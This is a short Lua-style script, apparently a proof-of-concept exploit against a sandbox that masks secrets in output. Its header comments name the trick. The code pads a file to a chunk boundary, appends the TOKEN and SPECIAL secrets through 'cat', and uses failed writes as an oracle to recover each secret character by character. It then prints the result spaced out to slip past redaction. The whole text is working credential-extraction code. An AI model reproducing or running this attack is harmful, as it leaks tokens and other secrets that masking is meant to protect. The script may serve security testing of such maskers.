-- idea: text of one's own behind the name of a credentials setting, with a value behind it that the file's first piece, or the word, cuts: a text for the masker that begins the value
-- oracle: same
-- wrote: f
recipe{ name = "x", programs = { "cat" }, secrets = { "TOKEN", "SPECIAL" } }
local own, piece = "sixteen-of-mine-", (1 << 18) + 4096
local function masks(name, length)
  local known = ""
  for k = 1, length do
    fs.write("f", ("x"):rep(piece - 32 - k) .. "INFISICAL_TOKEN=" .. own)
    spawn{ "cat", stdin = getSecret(name), stdout = { file = "f", append = true } }
    pcall(fs.read, "f")
    local found = nil
    for c = 33, 126 do
      found = not pcall(fs.write, "t", own .. known .. string.char(c) .. "!") and string.char(c)
      if found then break end
    end
    if not found then break end
    known = known .. found
  end
  return known:gsub(".", "%0 ")
end
print((masks("TOKEN", 4)))
print((masks("SPECIAL", 4)))
